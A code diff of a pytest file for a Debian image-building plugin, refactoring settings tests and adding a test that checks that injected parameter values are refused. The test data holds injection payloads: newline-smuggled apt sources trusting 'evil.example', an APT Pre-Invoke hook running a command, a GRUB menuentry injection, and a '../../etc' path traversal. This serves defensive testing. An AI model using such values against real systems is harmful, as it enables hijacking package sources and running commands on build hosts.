@@ -9,11 +9,22 @@ import threading
 import time
 from pathlib import Path
 
+import imagefactory_debian
 import pytest
 from debian_plugin_testing import tdl
-from imagefactory_core.errors import BuildCancelled, BuildError
-from imagefactory_core.tdl import Repository, Template, parse_template
-from imagefactory_core.testing import make_build_context
+from imagefactory_core.plugin import (
+    BuildCancelled,
+    BuildError,
+    Repository,
+    Template,
+    parse_template,
+)
+from imagefactory_core.testing import (
+    ParameterError,
+    loaded_plugin,
+    make_build_context,
+    plugin_parameters,
+)
 from imagefactory_debian import (
     boot,
     imagefactory_create_base_image,
@@ -62,14 +73,21 @@ def test_aarch64_is_offered_only_when_the_host_can_build_it():
 
 
 # -- settings -----------------------------------------------------------------------------------
+def settings(template: Template, request: dict | None = None,
+             config: dict | None = None) -> Settings:
+    """The settings of a build with the parameters the core resolves from `request` and the
+    plugin's `config`."""
+    return Settings.read(template, plugin_parameters(imagefactory_debian, request, config))
+
+
 def test_mirror_comes_from_the_tdl_unless_config_or_parameters_override_it():
     text = tdl("t").replace("http://deb.debian.org/debian", "http://mirror.example/debian/")
     parsed = parse_template(text)
-    assert Settings.read(parsed, {}, {}).mirror == "http://mirror.example/debian"
-    assert Settings.read(parsed, {}, {"mirror": "http://b.example/debian"}).mirror == \
+    assert settings(parsed).mirror == "http://mirror.example/debian"
+    assert settings(parsed, config={"mirror": "http://b.example/debian"}).mirror == \
         "http://b.example/debian"
-    assert Settings.read(parsed, {"mirror": "http://c.example/debian"},
-                         {"mirror": "http://b.example/debian"}).mirror == "http://c.example/debian"
+    assert settings(parsed, {"mirror": "http://c.example/debian"},
+                    {"mirror": "http://b.example/debian"}).mirror == "http://c.example/debian"
 
 
 def test_an_iso_install_needs_a_mirror_from_elsewhere(tmp_path: Path):
@@ -78,40 +96,58 @@ def test_an_iso_install_needs_a_mirror_from_elsewhere(tmp_path: Path):
         "<install type='iso'><iso>http://cdimage.example/debian-12.iso</iso></install>"))
     with pytest.raises(BuildError, match="ISO installs are not supported"):
         imagefactory_create_base_image(ctx=make_build_context(tmp_path), template=iso,
-                                       parameters={})
-    assert Settings.read(iso, {}, {"mirror": "http://m.example/debian"}).mirror == \
+                                       parameters=plugin_parameters(imagefactory_debian))
+    assert settings(iso, config={"mirror": "http://m.example/debian"}).mirror == \
         "http://m.example/debian"
 
 
 def test_security_mirror_follows_a_debian_mirror_and_can_be_turned_off():
     parsed = template()
-    assert Settings.read(parsed, {}, {}).security_mirror == "http://deb.debian.org/debian-security"
-    assert Settings.read(parsed, {}, {"security_mirror": "none"}).security_mirror is None
-    odd = Settings.read(parsed, {"mirror": "http://mirror.example/pub/"}, {})
-    assert odd.security_mirror is None
+    assert settings(parsed).security_mirror == "http://deb.debian.org/debian-security"
+    assert settings(parsed, config={"security_updates": False}).security_mirror is None
+    assert settings(parsed, {"mirror": "http://mirror.example/pub/"}).security_mirror is None
+    assert settings(parsed, {"mirror": "http://mirror.example/pub/", "security_mirror":
+                             "http://mirror.example/sec/"}).security_mirror == \
+        "http://mirror.example/sec"
 
 
 def test_settings_defaults_and_checks():
-    settings = Settings.read(template(kernelparam="quiet"), {}, {"kernel_cmdline": "net.ifnames=0"})
-    assert settings.with_docs and not settings.install_recommends
-    assert settings.initramfs_modules == CLOUD_DRIVERS
-    assert settings.kernel_cmdline == "net.ifnames=0 quiet"
-    assert settings.apt_proxy is None and settings.components == ("main",)
-    assert Settings.read(template(), {"initramfs_modules": "most"}, {}).initramfs_modules is None
-    assert Settings.read(template(), {"with_docs": "no"}, {}).with_docs is False
-    with pytest.raises(BuildError, match="with_docs"):
-        Settings.read(template(), {"with_docs": "maybe"}, {})
-    with pytest.raises(BuildError, match="apt_proxy"):
-        Settings.read(template(), {"apt_proxy": "proxy:3128"}, {})
-    with pytest.raises(BuildError, match="jeos_cache_entries"):
-        Settings.read(template(), {}, {"jeos_cache_entries": 0})
+    built = settings(template(kernelparam="quiet"), config={"kernel_cmdline": "net.ifnames=0"})
+    assert built.with_docs and not built.install_recommends
+    assert built.initramfs_modules == CLOUD_DRIVERS
+    assert built.kernel_cmdline == "net.ifnames=0 quiet"
+    assert built.apt_proxy is None and built.components == ("main",)
+    assert settings(template(), {"initramfs_modules": "most"}).initramfs_modules is None
+    assert settings(template(), {"with_docs": "no"}).with_docs is False
+    assert settings(template(), {"components": "main contrib"}).components == \
+        ("main", "contrib")
+    for bad, name in [({"with_docs": "maybe"}, "with_docs"),
+                      ({"apt_proxy": "proxy:3128"}, "apt_proxy"),
+                      ({"jeos_cache_entries": 0}, "jeos_cache_entries")]:
+        with pytest.raises(ParameterError, match=name):
+            settings(template(), bad)
 
 
-def test_operational_settings_cannot_come_from_a_request():
-    settings = Settings.read(template(), {"jeos_cache_entries": 99, "command_timeout": 1},
-                             {"command_timeout": 60})
-    assert settings.jeos_cache_entries == 4
-    assert settings.command_timeout == 60
+@pytest.mark.parametrize(("request_parameters", "name"), [
+    ({"mirror": "http://m.example/debian\ndeb [trusted=yes] http://evil.example/ x main"},
+     "mirror"),
+    ({"apt_proxy": 'http://p.example/";\nAPT::Update::Pre-Invoke {"touch /pwned";};'},
+     "apt_proxy"),
+    ({"components": ["main", "contrib\ndeb [trusted=yes] http://evil.example/ x"]},
+     "components"),
+    ({"kernel_cmdline": "quiet\n}\nmenuentry evil {"}, "kernel_cmdline"),
+    ({"initramfs_modules": ["virtio_blk", "../../etc"]}, "initramfs_modules"),
+])
+def test_values_that_would_inject_into_tools_are_refused(request_parameters, name):
+    with pytest.raises(ParameterError, match=f"parameter '{name}'"):
+        settings(template(), request_parameters)
+
+
+def test_what_decides_where_the_service_connects_or_what_it_spends_is_operator_only():
+    declared = {p["name"]: p for p in loaded_plugin(imagefactory_debian)["parameters"]}
+    assert {name for name, p in declared.items() if p["operator_only"]} == {
+        "mirror", "security_mirror", "apt_proxy", "jeos_cache_entries",
+        "deb_cache_max_age_days", "command_timeout"}
 
 
 # -- recipe, naming, layout ---------------------------------------------------------------------
@@ -119,18 +155,18 @@ def test_jeos_key_changes_with_what_changes_the_tree_only():
     parsed = template()
     arch = releases.ARCHITECTURES["x86_64"]
     bookworm = releases.release("12")
-    def recipe(release: releases.Release, settings: Settings) -> JeosRecipe:
-        assert settings.mirror
-        return JeosRecipe.of(release, arch, settings.mirror, settings)
+    def recipe(release: releases.Release, chosen: Settings) -> JeosRecipe:
+        assert chosen.mirror
+        return JeosRecipe.of(release, arch, chosen.mirror, chosen)
 
-    base = recipe(bookworm, Settings.read(parsed, {}, {}))
-    same = recipe(bookworm, Settings.read(parsed, {"apt_proxy": "http://p:3128",
-                                                   "kernel_cmdline": "quiet"}, {}))
+    base = recipe(bookworm, settings(parsed))
+    same = recipe(bookworm, settings(parsed, {"apt_proxy": "http://p:3128",
+                                              "kernel_cmdline": "quiet"}))
     assert base.key == same.key and base.key.startswith("bookworm-amd64-")
     for change in ({"mirror": "http://m.example/debian"}, {"with_docs": False},
                    {"components": "main contrib"}, {"initramfs_modules": "most"}):
-        assert recipe(bookworm, Settings.read(parsed, change, {})).key != base.key, change
-    assert recipe(releases.release("13"), Settings.read(parsed, {}, {})).key != base.key
+        assert recipe(bookworm, settings(parsed, change)).key != base.key, change
+    assert recipe(releases.release("13"), settings(parsed)).key != base.key
     assert base.sources() == [
         "deb http://deb.debian.org/debian bookworm main",
         "deb http://deb.debian.org/debian bookworm-updates main",
